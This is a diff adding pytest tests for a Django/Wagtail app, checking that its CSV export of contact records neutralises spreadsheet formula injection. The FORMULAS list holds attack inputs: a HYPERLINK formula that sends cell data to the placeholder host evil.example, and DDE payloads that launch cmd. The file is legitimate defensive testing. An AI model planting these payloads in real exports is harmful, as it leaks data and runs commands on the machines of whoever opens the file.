@@ -110,3 +110,48 @@ def test_multipliers_never_appear_in_public_output(client, home_page, kenya_jour
         for secret in secrets:
             assert secret.encode() not in output
     assert b"multiplier" not in outputs[2].lower()
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?leak="&A2,"Click me")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_the_csv_export_escapes_every_cell_a_spreadsheet_would_run_as_a_formula(client, mcd, kenya):
+    for position, formula in enumerate(FORMULAS):
+        Multiplier.objects.create(
+            mission=kenya,
+            name=formula,
+            kind=MultiplierKind.JOURNALIST,
+            organisation=f"Outlet {position}",
+            notes=formula,
+        )
+    client.force_login(mcd)
+
+    response = client.get(reverse("wagtailsnippets_heroes_multiplier:list"), {"export": "csv"})
+
+    content = b"".join(response.streaming_content).decode("utf-8-sig")
+    rows = {row["Organisation"]: row for row in csv.DictReader(io.StringIO(content))}
+    for position, formula in enumerate(FORMULAS):
+        row = rows[f"Outlet {position}"]
+        assert row["Name"] == f"'{formula}"
+        assert row["Notes"] == f"'{formula}"
+
+
+def test_the_csv_export_leaves_ordinary_cells_as_they_are(client, kenya_editor, kenya_journalist):
+    kenya_journalist.notes = "Met at the launch; call before 5 pm.\nPrefers WhatsApp."
+    kenya_journalist.save()
+    client.force_login(kenya_editor)
+
+    response = client.get(reverse("wagtailsnippets_heroes_multiplier:list"), {"export": "csv"})
+
+    content = b"".join(response.streaming_content).decode("utf-8-sig")
+    [row] = csv.DictReader(io.StringIO(content))
+    assert row["Name"] == "Achieng Odhiambo"
+    assert row["Organisation"] == "Daily Nation"
+    assert row["Notes"] == "Met at the launch; call before 5 pm.\nPrefers WhatsApp."
